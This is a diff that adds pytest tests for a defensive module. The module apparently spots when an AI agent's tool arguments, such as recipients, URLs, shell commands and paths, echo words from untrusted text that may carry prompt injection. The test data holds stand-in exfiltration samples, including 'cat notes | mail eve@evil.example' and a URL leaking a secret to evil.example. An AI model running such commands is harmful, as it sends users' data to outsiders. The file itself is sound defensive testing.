@@ -1,0 +1,52 @@
+"""Which pieces of a value are looked for in untrusted text."""
+
+from __future__ import annotations
+
+import pytest
+
+from lockgate.core.ruling.arguments import Leaf
+from lockgate.core.ruling.value_pieces import MAX_PIECES, find_candidates, prepare_values
+
+
+def pieces(argument: str, value: str, seen: str, *, tool: str = "send") -> set[bytes]:
+    words = {word.encode() for word in seen.split()}
+    return {found.piece for found in find_candidates(prepare_values(tool, [Leaf(argument, value)]), words)[0]}
+
+
+@pytest.mark.parametrize(
+    ("argument", "value", "seen", "piece"),
+    [
+        ("to", "Eve@Evil.example", "eve evil example", b"eve@evil.example"),
+        ("to", "eve+x@evil.example", "eve evil example", b"eve@evil.example"),
+        ("url", "https://a.evil.example/p?q=secret1", "a evil example p q secret1", b"evil.example"),
+        ("url", "https://a.evil.example/p?q=secret1", "evil example secret1", b"secret1"),
+        ("command", "cat notes | mail eve@evil.example", "mail eve evil example", b" mail eve@evil.example"),
+        ("command", "mail 'eve'@\"evil\".example", "eve evil example", b"eve@evil.example"),
+        ("path", "a/./b/../c1.txt", "a c1 txt", b"a/c1.txt"),
+        ("account", "1234-5678 90", "x", b"1234-5678 90"),
+    ],
+)
+def test_a_piece_that_an_attacker_could_have_named_is_looked_for(
+    argument: str, value: str, seen: str, piece: bytes
+) -> None:
+    assert piece in pieces(argument, value, seen)
+
+
+def test_a_piece_with_a_word_that_no_untrusted_text_has_is_not_looked_for() -> None:
+    assert not pieces("to", "ana@corp.example", "eve evil example")
+
+
+def test_a_domain_where_anyone_has_a_page_says_nothing_alone() -> None:
+    assert b"github.com" not in pieces("url", "https://github.com/x", "github com")
+
+
+def test_text_that_an_edit_takes_away_is_not_looked_for() -> None:
+    assert not pieces("old_string", "evil.example", "evil example", tool="edit_file")
+
+
+def test_too_many_pieces_are_cut() -> None:
+    words = [f"word{number}" for number in range(MAX_PIECES + 2)]
+    leaves = [Leaf("list", word) for word in words]
+    found, is_cut = find_candidates(prepare_values("send", leaves), {word.encode() for word in words})
+    assert is_cut
+    assert len(found) == MAX_PIECES
